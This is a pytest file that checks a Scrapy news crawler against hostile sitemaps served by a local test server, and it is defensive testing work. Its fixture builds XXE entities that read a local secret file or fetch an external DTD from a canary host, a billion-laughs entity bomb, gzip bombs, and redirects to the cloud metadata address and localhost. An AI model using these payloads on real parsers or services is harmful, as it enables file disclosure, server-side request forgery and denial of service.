"""Hostile sitemaps and requests to other hosts (issue 11's held cases): one real `scrapy crawl heute -a
base_url=...` run (with ``since``, so newscrawl's own sitemap parser reads every sitemap too) against a hostile
loopback heute: a sitemap index and a urlset with XXE, a billion-laughs urlset, a gzipped sitemap that is a gzip
bomb and a sitemap served gzip-encoded that is one, sitemap entries and redirects that lead to other hosts (the
cloud metadata address, another loopback address, ``localhost``), and good entries beside each. Articles are the
bundled mirror's pages. Canary servers on the other hosts must see no request at all.
"""

from __future__ import annotations

import json
import re
import uuid

import pytest

from tests.conftest import HEUTE_MIRROR, read_jsonl, run_scrapy
from tests.hostile import MAXSIZE, MEMORY_BOUND, crawl_stats, entity_bomb_dtd, offsite_drops
from tests.hostile.server import HostileServer, gzip_bomb, redirect, static

SITE = "https://www.heute.at"
GOOD_IDS = ["100148088", "100124532", "100282318"]  # in the good urlset
XXE_ID, LAUGHS_ID = "100170609", "100243549"     # the good entry of the XXE and of the billion-laughs urlset
REDIRECTS = {"/s/umleitung-123456781": "canary", "/s/metadaten-123456783": "metadata", "/s/lokal-123456785": "local"}
METADATA = "http://169.254.169.254"


def urlset(locs: list[str], prolog: str = "") -> bytes:
    entries = "".join(f"<url><loc>{loc}</loc><lastmod>2025-06-01T10:00:00+02:00</lastmod></url>" for loc in locs)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>').encode()


def index(locs: list[str], prolog: str = "") -> bytes:
    entries = "".join(f"<sitemap><loc>{loc}</loc></sitemap>" for loc in locs)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n'
            f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</sitemapindex>').encode()


@pytest.fixture(scope="module")
def sitemap_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-sitemaps")
    token = f"XXE-SECRET-{uuid.uuid4().hex}"
    secret = tmp / "secret.txt"
    secret.write_text(token + "\n", encoding="utf-8")
    with HostileServer(host="127.0.0.2") as canary, HostileServer() as local:
        xxe = (f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{secret}">'
               f'<!ENTITY ssrf SYSTEM "{canary.base}/xxe-entity">'
               f'<!ENTITY % remote SYSTEM "{canary.base}/xxe-dtd"> %remote;]>')
        bomb_xml = gzip_bomb(1024 * 1024 * 1024)
        others = {"canary": f"{canary.base}/s/gestohlen-123456782", "local": f"http://localhost:{local.port}/s/x-123456786",
                  "metadata": f"{METADATA}/latest/meta-data/s/x-123456784"}
        routes = {
            "/sitemap.xml": index([f"{SITE}/sitemap/gut.xml", f"{SITE}/sitemap/xxe.xml", f"{SITE}/sitemap/lachen.xml",
                                   f"{SITE}/sitemap/bombe.xml.gz", f"{SITE}/sitemap/bombe-ce.xml",
                                   f"{SITE}/sitemap/&xxe;.xml", f"{canary.base}/sitemap/fremd.xml",
                                   f"{METADATA}/sitemap/meta.xml"], prolog=xxe.replace("urlset", "sitemapindex")),
            "/sitemap/gut.xml": urlset([f"{SITE}/s/gut-{i}" for i in GOOD_IDS] + [f"{SITE}{p}" for p in REDIRECTS]
                                       + [f"{METADATA}/s/x-111111111", f"{canary.base}/s/x-222222222",
                                          f"http://localhost:{local.port}/s/x-333333333"]),
            "/sitemap/xxe.xml": urlset([f"{SITE}/s/gut-{XXE_ID}", f"{SITE}/s/&xxe;-123456787",
                                        f"{SITE}/s/x-123456788?&ssrf;"], prolog=xxe),
            "/sitemap/lachen.xml": urlset([f"{SITE}/s/gut-{LAUGHS_ID}", f"{SITE}/s/&lol9;-123456789"],
                                          prolog=entity_bomb_dtd("urlset")),
            "/sitemap/bombe.xml.gz": bomb_xml,  # a gzip file whose content is 1 GiB
            "/sitemap/bombe-ce.xml": bomb_xml,  # gzip as the transfer's Content-Encoding
        }
        routes = {path: static(body, "application/xml") for path, body in routes.items()}
        routes["/sitemap/bombe.xml.gz"] = static(bomb_xml, "application/x-gzip")
        routes["/sitemap/bombe-ce.xml"] = static(bomb_xml, "application/xml", Content_Encoding="gzip")
        routes.update({path: redirect(others[target]) for path, target in REDIRECTS.items()})
        with HostileServer(routes, mirror=HEUTE_MIRROR) as site:
            out = tmp / "items.jsonl"
            result = run_scrapy("crawl", "heute", "-a", f"base_url={site.base}", "-a", "since=2020-01-01",
                                "-O", str(out), "-s", "DOWNLOAD_TIMEOUT=5", "-s", "RETRY_TIMES=0",
                                "-s", "MEMUSAGE_CHECK_INTERVAL_SECONDS=0.2", timeout=150)
    yield {"result": result, "log": result.stderr, "stats": crawl_stats(result.stderr), "items": read_jsonl(out),
           "jsonl": out, "site": site, "canary": canary, "local": local, "token": token}


def test_the_run_ends_cleanly_in_bounded_memory_with_every_good_entry(sitemap_run):
    run, stats = sitemap_run, sitemap_run["stats"]
    assert run["result"].returncode == 0, run["log"][-3000:]
    assert stats["finish_reason"] == "finished" and "spider_exceptions" not in " ".join(stats)
    assert stats["memusage/max"] < MEMORY_BOUND, stats["memusage/max"]
    assert sorted(item["article_id"] for item in run["items"]) == sorted([*GOOD_IDS, XXE_ID, LAUGHS_ID])
    assert all(item["headline"] and item["site"] == "heute" for item in run["items"])


def test_xxe_in_a_sitemap_index_and_a_urlset_reads_no_file_and_contacts_no_host(sitemap_run):
    run = sitemap_run
    assert [hit.complete for hit in run["site"].hits("/sitemap/xxe.xml")] == [True]
    assert XXE_ID in {item["article_id"] for item in run["items"]}  # the sitemap's other entry still counts
    assert run["token"] not in run["log"] + run["jsonl"].read_text(encoding="utf-8") + run["result"].stdout
    assert run["canary"].hits() == []  # no entity, no external DTD fetched
    # No request left the site with the file's content in its URL either.
    assert not [hit.path for hit in run["site"].hits() if "XXE-SECRET" in hit.path]


def test_billion_laughs_in_a_sitemap_is_not_expanded(sitemap_run):
    run = sitemap_run
    assert [hit.complete for hit in run["site"].hits("/sitemap/lachen.xml")] == [True]
    assert LAUGHS_ID in {item["article_id"] for item in run["items"]}
    assert not [hit.path for hit in run["site"].hits() if "lollol" in hit.path]
    assert "lollollol" not in run["log"]


def test_a_gzipped_sitemap_that_is_a_bomb_is_ignored_after_at_most_download_maxsize(sitemap_run):
    run = sitemap_run
    assert [hit.complete for hit in run["site"].hits("/sitemap/bombe.xml.gz")] == [True]
    base = run["site"].base
    # The sitemap spider inflates at most DOWNLOAD_MAXSIZE, then gives the sitemap up, saying which.
    assert re.search(rf"WARNING: Ignoring (invalid sitemap: <200 )?{re.escape(base)}/sitemap/bombe\.xml\.gz\b",
                     run["log"]), run["log"][-3000:]
    m = re.search(rf"Ignored response <200 {re.escape(base)}/sitemap/bombe-ce.xml> because its body \(\d+ B "
                  rf"compressed, (\d+) B decompressed so far\) exceeded DOWNLOAD_MAXSIZE \({MAXSIZE} B\)", run["log"])
    assert m and int(m.group(1)) <= MAXSIZE + 1024 * 1024, run["log"][-3000:]
    # Of the seven sitemaps on the site, the index and the three readable urlsets count as fetched.
    assert run["stats"]["newscrawl/sitemap/fetched"] == 4


def test_sitemap_entries_and_redirects_to_other_hosts_are_never_fetched(sitemap_run):
    run = sitemap_run
    assert run["canary"].hits() == [] and run["local"].hits() == []
    for path in REDIRECTS:
        assert [hit.complete for hit in run["site"].hits(path)] == [True]  # the 302 was served, not followed
    # 2 index entries + 3 urlset entries + 3 redirects, all for other hosts.
    assert offsite_drops(run["stats"]) == 8, json.dumps(run["stats"], default=str)
    # Every request the downloader sent reached the site itself: none was even tried elsewhere.
    assert run["stats"]["downloader/request_count"] == len(run["site"].hits())
    assert "169.254.169.254" not in " ".join(run["stats"])
    assert not re.search(r"(Crawled|Retrying|Gave up retrying|Error downloading).*169\.254\.169\.254", run["log"])
